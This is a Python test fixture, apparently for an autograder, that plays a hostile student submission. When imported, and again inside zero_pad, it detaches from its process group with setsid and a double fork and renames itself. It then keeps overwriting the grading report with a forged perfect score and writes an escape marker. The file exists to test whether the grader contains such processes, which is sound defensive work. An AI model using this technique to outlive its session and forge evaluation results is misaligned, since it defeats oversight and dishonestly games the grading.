"""Attack: a process that leaves its process group (setsid and a double fork), waits for grading to end,
then overwrites the report and writes a marker. The test fills in TARGET and MARKER with the real paths
(the worst case: the student knows them) and NAME with the name the process gives itself.
zero_pad is the student's own, right."""
import ctypes
import os
import time

import numpy as np

TARGET = "@TARGET@"
MARKER = "@MARKER@"
NAME = b"@NAME@"


def _escape():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, NAME, 0, 0, 0)  # PR_SET_NAME: findable in /proc/*/comm
            for _ in range(600):
                time.sleep(0.1)
                for path, text in ((TARGET, '{"score": 100, "forged": true}'), (MARKER, "escaped")):
                    try:
                        with open(path, "w") as handle:
                            handle.write(text)
                    except OSError:
                        pass
            os._exit(0)
        os._exit(0)
    os.wait()


_escape()


def zero_pad(X, pad):
    _escape()
    return np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)))
